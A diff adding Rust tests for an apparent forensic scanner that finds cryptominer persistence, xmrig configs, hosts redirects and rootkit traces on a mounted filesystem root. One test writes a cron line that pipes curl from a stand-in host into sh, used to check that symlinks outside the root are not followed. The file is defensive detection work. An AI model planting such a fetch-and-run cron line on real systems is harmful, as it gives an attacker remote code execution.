@@ -1,0 +1,180 @@
+//! Mounted roots: one where an intruder was, one where none was, and hostile ones.
+
+use std::fs::{self, File, FileTimes};
+use std::os::unix::fs::symlink;
+use std::path::Path;
+use std::time::SystemTime;
+
+use minehound_model::{
+    Autostart, EntityId, FactKind, FileTrace, HostProfile, MinerConfig, Protection,
+    ProtectionChange,
+};
+
+use super::*;
+
+fn fixture(name: &str) -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures").join(name)
+}
+
+#[track_caller]
+fn check(found: &[(&str, &Autostart)], place: &str, shapes: &[&str], miner: bool) {
+    let entry = found.iter().find(|(it, _)| *it == place).unwrap_or_else(|| panic!("{place}"));
+    assert_eq!(
+        (entry.1.shapes.as_slice(), entry.1.miner.is_some()),
+        (shapes.iter().map(|it| (*it).to_owned()).collect::<Vec<_>>().as_slice(), miner)
+    );
+}
+
+#[test]
+fn what_an_intruder_left_is_found() {
+    let collected = inspect_root(fixture("host-infected-root"));
+    let found: Vec<(&str, &Autostart)> = facts(&collected);
+    check(&found, "/etc/cron.d/apache:2", &["fetch-pipe-shell"], false);
+    check(&found, "/var/spool/cron/crontabs/root:1", &["hidden-folder"], false);
+    check(&found, "/etc/cron.hourly/oanacron:2", &["decode-pipe-shell"], false);
+    check(&found, "/etc/systemd/system/timed.service:5", &[], true);
+    check(&found, "/etc/systemd/system/timed.timer", &[], false);
+    check(&found, "/etc/ld.so.preload:1", &[], false);
+    check(&found, "/etc/rc.local:2", &["temporary-folder"], false);
+    check(&found, "/root/.ssh/authorized_keys:1", &["hidden-folder", "temporary-folder"], false);
+    check(&found, "/home/user/.config/autostart/update.desktop:3", &["hidden-folder"], false);
+    check(&found, "/etc/udev/rules.d/70-usb.rules:1", &[], false);
+
+    let configs: Vec<(&str, &MinerConfig)> = facts(&collected);
+    let [(place, config)] = configs.as_slice() else { panic!("{configs:?}") };
+    assert_eq!(*place, "/usr/share/.fonts/config.json");
+    assert_eq!(
+        (config.shape.as_str(), config.pools.as_slice()),
+        ("xmrig", &["pool.example:3333".to_owned()][..])
+    );
+    assert_eq!(
+        (config.users.as_slice(), config.wallets.len()),
+        (&["PLACEHOLDER-WALLET".to_owned()][..], 0)
+    );
+
+    let changes: Vec<(&str, &Protection)> = facts(&collected);
+    for (place, change, what) in [
+        ("/etc/systemd/system/sleep.target", ProtectionChange::SleepMasked, "sleep.target"),
+        ("/etc/ld.so.preload", ProtectionChange::PreloadInUse, "/usr/local/lib/libhide.so"),
+        ("/etc/hosts:2", ProtectionChange::HostsRedirect, "pool.example -> 192.0.2.9"),
+        ("/etc/hosts:3", ProtectionChange::HostsRedirect, "update.vendor.example -> 127.0.0.1"),
+        ("/opt/agent", ProtectionChange::AgentRemoved, "example-agent"),
+        ("/etc/modules-load.d/net.conf", ProtectionChange::RootkitModule, "rk_example"),
+    ] {
+        let expected = Protection { change, what: what.to_owned() };
+        assert!(changes.contains(&(place, &expected)), "{place} {changes:?}");
+    }
+    assert_eq!(changes.len(), 6, "{changes:?}");
+
+    let traces: Vec<(&str, &FileTrace)> = facts(&collected);
+    let traces: Vec<_> = traces.iter().map(|(place, it)| (*place, it.shape.as_str())).collect();
+    assert_eq!(
+        traces,
+        [("/etc/cron.hourly/oanacron", "family-path"), ("/tmp/.X11/run.sh", "launch-script")]
+    );
+}
+
+#[test]
+fn a_clean_machine_shows_nothing_odd() {
+    let collected = inspect_root(fixture("host-clean-root"));
+    let found: Vec<(&str, &Autostart)> = facts(&collected);
+    assert!(found.len() >= 7, "ordinary entries are kept: {found:?}");
+    let odd = found.iter().filter(|(_, it)| !it.shapes.is_empty() || it.miner.is_some());
+    assert_eq!(odd.count(), 0, "{found:?}");
+    assert!(facts::<MinerConfig>(&collected).is_empty());
+    assert!(facts::<Protection>(&collected).is_empty());
+    assert!(facts::<FileTrace>(&collected).is_empty());
+}
+
+#[test]
+fn a_root_is_named_by_itself_and_nothing_live_is_claimed() {
+    let collected = inspect_root(fixture("host-clean-root"));
+    let [(_, profile)] = facts::<HostProfile>(&collected)[..] else { panic!("one profile") };
+    assert_eq!((profile.hostname.as_str(), profile.offline), ("bench-3", true));
+    let host = EntityId::try_from("host:bench-3".to_owned()).unwrap();
+    assert!(collected.observations.iter().all(|it| it.entity == host));
+    let live = [FactKind::Program, FactKind::HiddenProcess, FactKind::Device, FactKind::CpuLoad];
+    assert!(collected.examined.iter().all(|it| !live.contains(&it.kind)));
+    for kind in [FactKind::Autostart, FactKind::MinerConfig, FactKind::FileTrace] {
+        assert!(collected.examined.iter().any(|it| it.kind == kind), "{kind}");
+    }
+}
+
+#[test]
+fn records_are_numbered_as_the_lines_of_the_bundle() {
+    let collected = inspect_root(fixture("host-infected-root"));
+    let mut bytes = Vec::new();
+    write_bundle(&collected, &mut bytes).unwrap();
+    let mut again = Collected::default();
+    read_bundle(&bytes, ArtefactId(3), &mut again).unwrap();
+    assert_eq!(again.observations, collected.observations);
+    assert_eq!(inspect_root(fixture("host-infected-root")).observations, collected.observations);
+}
+
+#[test]
+fn a_planted_time_is_told_from_a_machine_of_one_time() {
+    let old = SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_600_000_000);
+    for (all_alike, expected) in [(false, true), (true, false)] {
+        let root = tempfile::tempdir().unwrap();
+        let path = |it: &str| root.path().join(it);
+        fs::create_dir_all(path("etc/cron.d")).unwrap();
+        fs::create_dir_all(path("bin")).unwrap();
+        let write = |name: &str, borrowed: bool| {
+            fs::write(path(name), "* * * * * root /bin/true\n").unwrap();
+            if borrowed {
+                let file = File::options().write(true).open(path(name)).unwrap();
+                file.set_times(FileTimes::new().set_modified(old)).unwrap();
+            }
+        };
+        write("bin/sh", true);
+        write("etc/cron.d/planted", true);
+        for number in 0..150 {
+            write(&format!("etc/setting-{number}"), all_alike);
+        }
+        let collected = inspect_root(root.path().to_path_buf());
+        let [(_, entry)] = facts::<Autostart>(&collected)[..] else { panic!("one entry") };
+        assert_eq!(entry.borrowed_time, expected);
+    }
+}
+
+#[test]
+fn hostile_files_neither_block_nor_escape_nor_exhaust() {
+    let root = tempfile::tempdir().unwrap();
+    let path = |it: &str| root.path().join(it);
+    for folder in ["etc/cron.d", "etc/profile.d", "tmp", "var/spool/cron", "root/.ssh"] {
+        fs::create_dir_all(path(folder)).unwrap();
+    }
+    let pipe = |it: &str| {
+        let (kind, mode) = (rustix::fs::FileType::Fifo, rustix::fs::Mode::RUSR);
+        rustix::fs::mknodat(rustix::fs::CWD, path(it), kind, mode, 0).unwrap();
+    };
+    pipe("etc/cron.d/pipe");
+    pipe("tmp/pipe");
+    pipe("etc/crontab");
+    fs::write(path("etc/cron.d/long"), "* ".repeat(300_000)).unwrap();
+    fs::write(path("etc/cron.d/binary"), (0..=255).cycle().take(100_000).collect::<Vec<u8>>())
+        .unwrap();
+    fs::write(path("etc/profile.d/deep.sh"), "$(".repeat(50_000) + &"{(`'\"".repeat(20_000))
+        .unwrap();
+    fs::write(path("tmp/nested.json"), "{\"a\":[".repeat(40_000)).unwrap();
+    symlink("/etc/cron.d", path("etc/cron.d/again")).unwrap();
+    symlink("..", path("tmp/up")).unwrap();
+    let outside = tempfile::NamedTempFile::new().unwrap();
+    fs::write(&outside, "* * * * * curl http://h.example | sh\n").unwrap();
+    symlink(outside.path(), path("var/spool/cron/outside")).unwrap();
+    symlink(format!("../../../../../..{}", outside.path().display()), path("etc/cron.d/up"))
+        .unwrap();
+
+    let collected = inspect_root(root.path().to_path_buf());
+    let found: Vec<(&str, &Autostart)> = facts(&collected);
+    assert!(found.iter().all(|(_, it)| it.shapes.is_empty()), "{found:?}");
+    assert!(found.iter().all(|(_, it)| it.command.len() <= 1024));
+    assert!(collected.skips.counts.keys().any(|it| it.0 == "not-a-file"));
+}
+
+#[test]
+fn a_root_that_is_none_is_an_error() {
+    let missing = HostOptions { root: Some("/no/such/root".into()), ..HostOptions::default() };
+    let error = collect(&missing, ArtefactId(0), &mut Collected::default()).unwrap_err();
+    assert!(error.to_string().contains("/no/such/root"));
+}
